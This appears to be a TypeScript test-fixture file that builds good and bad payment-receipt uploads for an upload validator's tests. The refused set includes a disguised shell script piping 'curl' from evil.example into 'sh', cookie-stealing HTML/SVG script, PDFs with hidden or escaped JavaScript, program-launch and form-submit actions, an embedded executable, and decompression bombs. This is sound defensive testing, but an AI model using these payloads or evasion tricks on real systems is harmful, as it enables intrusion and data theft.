/**
 * Receipt files for tests, made from bytes at run time (nothing binary is committed): real
 * JPEG, PNG, WebP and PDF receipts that are accepted, and every kind that must be refused, each
 * with the answer it gets. The payments route's tests upload them as they are:
 *
 *   for (const bad of await badReceipts()) {
 *     const body = multipartBody([...fields, { name: RECEIPT_FIELD, filename: bad.filename,
 *       contentType: bad.declaredType, data: bad.data }]);
 *     … expect(status).toBe(bad.status); expect(error.code).toBe(bad.code);
 *     … expect(error.details?.reason).toBe(bad.reason);   // for the 415s
 *   }
 *
 * `buildPdf` writes a PDF from object bodies (classic cross-reference table) and
 * `buildCompressedPdf` one whose objects sit in an object stream (PDF 1.5, cross-reference
 * stream), as modern generators write them.
 */
import { crc32, deflateSync } from 'node:zlib';
import { MAX_RECEIPT_BYTES, type ReceiptRefusalReason } from '@comensal/contracts';
import sharp from 'sharp';

export interface ReceiptFixture {
  /** What it is, for a test's name. */
  name: string;
  /** The name the client gives it (often a lie). */
  filename: string;
  /** The type the client declares (often a lie). */
  declaredType: string;
  data: Buffer;
}

export interface GoodReceiptFixture extends ReceiptFixture {
  /** What checkReceipt stores it as. */
  storedAs: 'image/jpeg' | 'application/pdf';
}

export interface BadReceiptFixture extends ReceiptFixture {
  status: 400 | 413 | 415;
  code: 'VALIDATION_FAILED' | 'PAYLOAD_TOO_LARGE' | 'UNSUPPORTED_MEDIA_TYPE';
  /** `details.reason` of a 415. */
  reason?: ReceiptRefusalReason;
}

const latin1 = (text: string) => Buffer.from(text, 'latin1');

// ---- PDF writing ------------------------------------------------------------------------------

/** A stream object's body: `<< dict /Length n >> stream … endstream`. */
export function pdfStream(dict: string, data: Buffer | string): Buffer {
  const bytes = typeof data === 'string' ? latin1(data) : data;
  return Buffer.concat([
    latin1(`<< ${dict} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    latin1('\nendstream'),
  ]);
}

/** A flate-compressed stream object's body. */
export const flateStream = (dict: string, data: string | Buffer) =>
  pdfStream(`${dict} /Filter /FlateDecode`, deflateSync(typeof data === 'string' ? latin1(data) : data));

const HEADER = (version: string) => latin1(`%PDF-${version}\n%\xe2\xe3\xcf\xd3\n`);

/**
 * A PDF whose objects 1…n are `objects` (object 1 the catalog), with a classic cross-reference
 * table; `trailer` adds entries to the trailer dictionary.
 */
export function buildPdf(objects: readonly (string | Buffer)[], options: { trailer?: string } = {}): Buffer {
  const chunks = [HEADER('1.7')];
  let offset = chunks[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(offset);
    const chunk = Buffer.concat([
      latin1(`${i + 1} 0 obj\n`),
      typeof body === 'string' ? latin1(body) : body,
      latin1('\nendobj\n'),
    ]);
    chunks.push(chunk);
    offset += chunk.length;
  });
  const table = offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('');
  chunks.push(
    latin1(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}` +
        `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ''}>>\nstartxref\n${offset}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(chunks);
}

export interface CompressedPdfOptions {
  /** Objects stored in the object stream, by number (1 is the catalog). */
  compressed: Readonly<Record<number, string>>;
  /** Objects written directly (streams cannot sit in an object stream), by number. */
  direct?: Readonly<Record<number, string | Buffer>>;
  /** The object stream's dictionary, `/N` and `/First` excluded (default: `/Type /ObjStm`). */
  objectStreamDict?: string;
  /** How the object stream's data is encoded (default: flate once). */
  encode?: (data: Buffer) => { filter: string; data: Buffer };
}

/**
 * A PDF 1.5 whose `compressed` objects sit in one object stream, found through a
 * cross-reference stream (what most generators write today).
 */
export function buildCompressedPdf(options: CompressedPdfOptions): Buffer {
  const direct = options.direct ?? {};
  const numbers = [...Object.keys(options.compressed), ...Object.keys(direct)].map(Number);
  const objStm = Math.max(...numbers) + 1;
  const xrefNum = objStm + 1;
  const inStream = Object.entries(options.compressed).map(([num, body]) => ({ num: Number(num), body }));

  let index = '';
  let bodies = '';
  for (const { num, body } of inStream) {
    index += `${num} ${bodies.length} `;
    bodies += `${body}\n`;
  }
  const encoded = (options.encode ?? ((data) => ({ filter: '/FlateDecode', data: deflateSync(data) })))(
    latin1(index + bodies),
  );
  const objStmBody = pdfStream(
    `${options.objectStreamDict ?? '/Type /ObjStm'} /N ${inStream.length} /First ${index.length}` +
      (encoded.filter ? ` /Filter ${encoded.filter}` : ''),
    encoded.data,
  );

  const chunks = [HEADER('1.5')];
  let offset = chunks[0]!.length;
  const offsets = new Map<number, number>();
  const write = (num: number, body: string | Buffer) => {
    offsets.set(num, offset);
    const chunk = Buffer.concat([
      latin1(`${num} 0 obj\n`),
      typeof body === 'string' ? latin1(body) : body,
      latin1('\nendobj\n'),
    ]);
    chunks.push(chunk);
    offset += chunk.length;
  };
  for (const [num, body] of Object.entries(direct)) write(Number(num), body);
  write(objStm, objStmBody);

  const xrefOffset = offset;
  offsets.set(xrefNum, xrefOffset);
  const entries = Buffer.alloc((xrefNum + 1) * 7);
  for (let num = 0; num <= xrefNum; num += 1) {
    const at = num * 7;
    const inObjStm = inStream.findIndex((o) => o.num === num);
    if (num === 0) {
      entries.writeUInt8(0, at);
      entries.writeUInt32BE(0, at + 1);
      entries.writeUInt16BE(65535, at + 5);
    } else if (inObjStm >= 0) {
      entries.writeUInt8(2, at);
      entries.writeUInt32BE(objStm, at + 1);
      entries.writeUInt16BE(inObjStm, at + 5);
    } else {
      entries.writeUInt8(offsets.has(num) ? 1 : 0, at);
      entries.writeUInt32BE(offsets.get(num) ?? 0, at + 1);
      entries.writeUInt16BE(0, at + 5);
    }
  }
  write(xrefNum, pdfStream(`/Type /XRef /Size ${xrefNum + 1} /W [1 4 2] /Root 1 0 R`, entries));
  chunks.push(latin1(`startxref\n${xrefOffset}\n%%EOF\n`));
  return Buffer.concat(chunks);
}

/** The text of the receipt page. */
const CONTENT =
  'BT /F1 16 Tf 20 150 Td (Pago Movil - Banesco 0134) Tj 0 -24 Td (Ref. 00123456  Bs. 1.250,00) Tj ET';
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const pageObject = (extra = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 320 200] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${extra}>>`;

/** A one-page receipt PDF; `catalog`, `page` add entries, `more` adds objects 6, 7… */
export function receiptPdf(
  options: { catalog?: string; page?: string; more?: (string | Buffer)[]; trailer?: string } = {},
) {
  return buildPdf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''}>>`,
      PAGES,
      pageObject(options.page),
      flateStream('', CONTENT),
      FONT,
      ...(options.more ?? []),
    ],
    { trailer: options.trailer ?? '' },
  );
}

/** The same receipt with its objects in a compressed object stream. */
export function compressedReceiptPdf(
  options: { catalog?: string; page?: string; more?: Record<number, string> } & Pick<
    CompressedPdfOptions,
    'objectStreamDict' | 'encode'
  > = {},
) {
  return buildCompressedPdf({
    compressed: {
      1: `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ''}>>`,
      2: PAGES,
      3: pageObject(options.page),
      5: FONT,
      ...options.more,
    },
    direct: { 4: flateStream('', CONTENT) },
    ...(options.objectStreamDict ? { objectStreamDict: options.objectStreamDict } : {}),
    ...(options.encode ? { encode: options.encode } : {}),
  });
}

const JS_ACTION = '<< /Type /Action /S /JavaScript /JS (app.alert\\(document.cookie\\)) >>';

/**
 * Pseudo-random bytes from a fixed seed (xorshift32): what compressed image data looks like to
 * the PDF scanner, the same on every run.
 */
export function noiseBytes(length: number, seed = 0x2545f491): Buffer {
  const bytes = Buffer.alloc(length);
  let x = seed;
  for (let i = 0; i < length; i += 1) {
    x ^= x << 13;
    x ^= x >>> 17;
    x ^= x << 5;
    bytes[i] = x & 0xff;
  }
  return bytes;
}

/** A PNG header claiming `width`×`height` pixels, with almost no pixel data: a decompression bomb. */
export function pngClaiming(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const typed = Buffer.concat([latin1(type), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(typed));
    return Buffer.concat([length, typed, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('IDAT', deflateSync(Buffer.alloc(1024))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A picture of `width`×`height` with some structure (so encoders do real work). */
export function receiptPicture(
  format: 'jpeg' | 'png' | 'webp' | 'gif',
  options: { width?: number; height?: number; alpha?: boolean; orientation?: number } = {},
): Promise<Buffer> {
  const width = options.width ?? 240;
  const height = options.height ?? 360;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">
    <rect width="100%" height="100%" fill="${options.alpha ? 'none' : '#ffffff'}"/>
    <rect x="10" y="10" width="${width - 20}" height="40" fill="#1b5e20"/>
    <rect x="10" y="70" width="${(width - 20) / 2}" height="12" fill="#333"/>
  </svg>`;
  let image = sharp(Buffer.from(svg)).toFormat(format);
  if (options.orientation) image = image.withMetadata({ orientation: options.orientation });
  return image.toBuffer();
}

// ---- the sets -----------------------------------------------------------------------------------

/** Receipts that are accepted, and what they are stored as. */
export async function goodReceipts(): Promise<GoodReceiptFixture[]> {
  return [
    {
      name: 'a JPEG',
      filename: 'recibo.jpg',
      declaredType: 'image/jpeg',
      data: await receiptPicture('jpeg'),
      storedAs: 'image/jpeg',
    },
    {
      name: 'a PNG',
      filename: 'captura.png',
      declaredType: 'image/png',
      data: await receiptPicture('png'),
      storedAs: 'image/jpeg',
    },
    {
      name: 'a WebP',
      filename: 'recibo.webp',
      declaredType: 'image/webp',
      data: await receiptPicture('webp'),
      storedAs: 'image/jpeg',
    },
    {
      name: 'a PNG declared as something else',
      filename: 'receipt',
      declaredType: 'application/octet-stream',
      data: await receiptPicture('png', { alpha: true }),
      storedAs: 'image/jpeg',
    },
    {
      name: 'a plain PDF',
      filename: 'comprobante.pdf',
      declaredType: 'application/pdf',
      data: receiptPdf(),
      storedAs: 'application/pdf',
    },
    {
      name: 'a PDF with a link and an open destination',
      filename: 'comprobante.pdf',
      declaredType: 'application/pdf',
      data: receiptPdf({
        catalog: '/OpenAction [3 0 R /Fit]',
        page: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Link /Rect [20 140 200 170] /A << /S /URI /URI (https://www.banesco.com) >> >>',
        ],
      }),
      storedAs: 'application/pdf',
    },
    {
      name: 'a PDF 1.5 with an object stream',
      filename: 'comprobante.pdf',
      declaredType: 'application/pdf',
      data: compressedReceiptPdf(),
      storedAs: 'application/pdf',
    },
  ];
}

/** Every kind of receipt that must be refused, with its answer. */
export async function badReceipts(): Promise<BadReceiptFixture[]> {
  const png = await receiptPicture('png');
  const unsupported = (
    name: string,
    filename: string,
    declaredType: string,
    data: Buffer,
  ): BadReceiptFixture => ({
    name,
    filename,
    declaredType,
    data,
    status: 415,
    code: 'UNSUPPORTED_MEDIA_TYPE',
    reason: 'UNSUPPORTED_TYPE',
  });
  const pdf = (
    name: string,
    data: Buffer,
    reason: ReceiptRefusalReason = 'PDF_ACTIVE_CONTENT',
  ): BadReceiptFixture => ({
    name,
    filename: 'comprobante.pdf',
    declaredType: 'application/pdf',
    data,
    status: 415,
    code: 'UNSUPPORTED_MEDIA_TYPE',
    reason,
  });
  return [
    {
      name: 'zero bytes',
      filename: 'recibo.png',
      declaredType: 'image/png',
      data: Buffer.alloc(0),
      status: 400,
      code: 'VALIDATION_FAILED',
    },
    {
      name: '11 MB',
      filename: 'recibo.png',
      declaredType: 'image/png',
      data: Buffer.concat([png, Buffer.alloc(11 * 1024 * 1024 - png.length, 0x20)]),
      status: 413,
      code: 'PAYLOAD_TOO_LARGE',
    },
    {
      name: 'one byte over the limit',
      filename: 'recibo.png',
      declaredType: 'image/png',
      data: Buffer.concat([png, Buffer.alloc(MAX_RECEIPT_BYTES + 1 - png.length, 0x20)]),
      status: 413,
      code: 'PAYLOAD_TOO_LARGE',
    },
    {
      name: 'a PNG claiming 2.5 gigapixels (decompression bomb)',
      filename: 'recibo.png',
      declaredType: 'image/png',
      data: pngClaiming(50_000, 50_000),
      status: 413,
      code: 'PAYLOAD_TOO_LARGE',
    },
    unsupported(
      'a shell script renamed .png',
      'recibo.png',
      'image/png',
      latin1('#!/bin/sh\ncurl -s https://evil.example/x | sh\n'),
    ),
    unsupported(
      'an HTML page renamed .jpg',
      'recibo.jpg',
      'image/jpeg',
      latin1('<!doctype html><script>alert(document.cookie)</script>'),
    ),
    unsupported(
      'an SVG with a script',
      'recibo.svg',
      'image/svg+xml',
      latin1('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'),
    ),
    unsupported('a GIF', 'recibo.gif', 'image/gif', await receiptPicture('gif')),
    unsupported('a ZIP archive', 'recibo.pdf', 'application/pdf', Buffer.from('504b0304140000000000', 'hex')),
    {
      name: 'a PNG cut short',
      filename: 'recibo.png',
      declaredType: 'image/png',
      data: png.subarray(0, 80),
      status: 415,
      code: 'UNSUPPORTED_MEDIA_TYPE',
      reason: 'UNREADABLE_IMAGE',
    },
    pdf(
      'a PDF that runs JavaScript when opened',
      receiptPdf({ catalog: '/OpenAction 6 0 R', more: [JS_ACTION] }),
    ),
    pdf(
      'a PDF with a document-level script',
      receiptPdf({ catalog: '/Names << /JavaScript << /Names [(init) 6 0 R] >> >>', more: [JS_ACTION] }),
    ),
    pdf(
      'a PDF with JavaScript written with #xx escapes',
      receiptPdf({
        catalog: '/Names << /Java#53cript << /Names [(init) 6 0 R] >> >>',
        more: ['<< /S /#4aava#53cript /J#53 (app.alert\\(1\\)) >>'],
      }),
    ),
    pdf(
      'a PDF with an open action written with #xx escapes',
      receiptPdf({ catalog: '/Open#41ction 6 0 R', more: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }),
    ),
    pdf(
      'a PDF with JavaScript inside a compressed object stream',
      compressedReceiptPdf({ catalog: '/OpenAction 6 0 R', more: { 6: JS_ACTION } }),
    ),
    pdf(
      'a PDF with escaped JavaScript inside a twice-compressed object stream with no /Type',
      compressedReceiptPdf({
        objectStreamDict: '',
        encode: (data) => ({ filter: '[/FlateDecode /FlateDecode]', data: deflateSync(deflateSync(data)) }),
        catalog: '/Names << /JavaScript 6 0 R >>',
        more: { 6: '<< /Names [(x) << /S /Java#53cript /JS (1) >>] >>' },
      }),
    ),
    pdf(
      'a PDF whose link launches a program',
      receiptPdf({
        page: '/Annots [6 0 R]',
        more: ['<< /Type /Annot /Subtype /Link /Rect [0 0 320 200] /A << /S /Launch /F (cmd.exe) >> >>'],
      }),
    ),
    pdf(
      'a PDF with an additional action on its page',
      receiptPdf({ page: '/AA << /O 6 0 R >>', more: ['<< /S /URI /URI (https://evil.example) >>'] }),
    ),
    pdf(
      'a PDF with an embedded file',
      receiptPdf({
        catalog: '/Names << /EmbeddedFiles << /Names [(factura.exe) 6 0 R] >> >>',
        more: [
          '<< /Type /Filespec /F (factura.exe) /EF << /F 7 0 R >> >>',
          pdfStream('/Type /EmbeddedFile', 'MZ fake executable'),
        ],
      }),
    ),
    pdf(
      'a PDF with rich media',
      receiptPdf({
        page: '/Annots [6 0 R]',
        more: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] >>'],
      }),
    ),
    pdf(
      'a PDF with an XFA form',
      receiptPdf({ catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', more: [pdfStream('', '<xdp/>')] }),
    ),
    pdf(
      'a PDF whose form submits itself',
      receiptPdf({
        page: '/Annots [6 0 R]',
        more: [
          '<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm /F (https://evil.example) >> >>',
        ],
      }),
    ),
    pdf(
      'a script action hidden inside the data of an image (where a cross-reference entry could point)',
      receiptPdf({
        more: [
          pdfStream(
            '/Type /XObject /Subtype /Image /Width 1 /Height 1 /Filter /DCTDecode',
            `junk 9 0 obj ${JS_ACTION} endobj`,
          ),
        ],
      }),
    ),
    pdf(
      'an encrypted PDF',
      receiptPdf({
        trailer: '/Encrypt 6 0 R /ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]',
        more: [`<< /Filter /Standard /V 1 /R 2 /O <${'00'.repeat(32)}> /U <${'00'.repeat(32)}> /P -4 >>`],
      }),
      'PDF_ENCRYPTED',
    ),
    pdf(
      'a PDF whose object stream uses LZW',
      compressedReceiptPdf({
        encode: () => ({ filter: '/LZWDecode', data: Buffer.from([0x80, 0x0b, 0x60, 0x50]) }),
      }),
      'PDF_UNCHECKABLE',
    ),
    pdf(
      'a PDF whose object stream does not decompress',
      compressedReceiptPdf({
        encode: (data) => ({ filter: '/FlateDecode', data: Buffer.from(data.toString('hex')) }),
      }),
      'PDF_UNCHECKABLE',
    ),
    pdf(
      'a PDF whose object stream inflates past the bound (compression bomb)',
      compressedReceiptPdf({
        encode: (data) => ({
          filter: '/FlateDecode',
          data: deflateSync(Buffer.concat([data, Buffer.alloc(80 * 1024 * 1024, 0x20)]), { level: 9 }),
        }),
      }),
      'PDF_UNCHECKABLE',
    ),
    pdf(
      'a PDF with a stream whose dictionary cannot be read',
      buildPdf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        PAGES,
        pageObject(),
        Buffer.concat([
          latin1('<< /Length 10 /Filter (unclosed >>\nstream\n'),
          deflateSync(latin1(JS_ACTION)),
          latin1('\nendstream'),
        ]),
        FONT,
      ]),
      'PDF_UNCHECKABLE',
    ),
  ];
}
